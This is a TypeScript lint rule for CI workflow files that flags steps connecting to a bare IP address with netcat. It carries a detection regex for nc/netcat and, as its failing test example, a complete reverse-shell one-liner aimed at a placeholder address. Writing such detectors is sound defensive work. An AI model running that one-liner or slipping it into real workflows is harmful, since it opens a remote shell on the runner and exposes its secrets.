import { Scalar } from '@gatehouse/source';
import { Span } from '../../../model/workflow/index.ts';
import { stepRule } from '../define.ts';
import { stepsExample } from '../example.ts';

const NETCAT = /(?:nc|netcat) \d{1,3}.\d{1,3}.\d{1,3}.\d{1,3}/;

export const reverseShell = stepRule({
  id: 'workflow/reverse-shell',
  title: 'A script connects to an address with netcat',
  severity: 'high',
  why: 'A connection from the runner to a bare address is how attackers open a shell on it or carry secrets away.',
  fix: 'Remove the command. If it is really needed, call a named host and say in a suppression what for.',
  references: ['https://docs.github.com/en/actions/reference/security/secure-use'],
  aliases: ['CKV_GHA_4'],
  tags: ['CWE-506', 'CWE-78'],
  check(step, report) {
    const { run } = step;
    if (!(run instanceof Scalar)) return;
    const match = NETCAT.exec(run.text);
    if (match)
      report.fail(
        new Span(run, match.index, match.index + match[0].length),
        `${step.label} connects with ${match[0]}`,
      );
  },
  examples: {
    fail: [
      stepsExample(
        'To an address',
        '- run: |\n    make\n    cat /tmp/f | /bin/sh -i 2>&1 | netcat 192.0.2.7 32032 > /tmp/f',
      ),
    ],
    pass: [
      stepsExample('Waits for a service', '- run: until nc -z localhost 5432; do sleep 1; done'),
    ],
  },
});
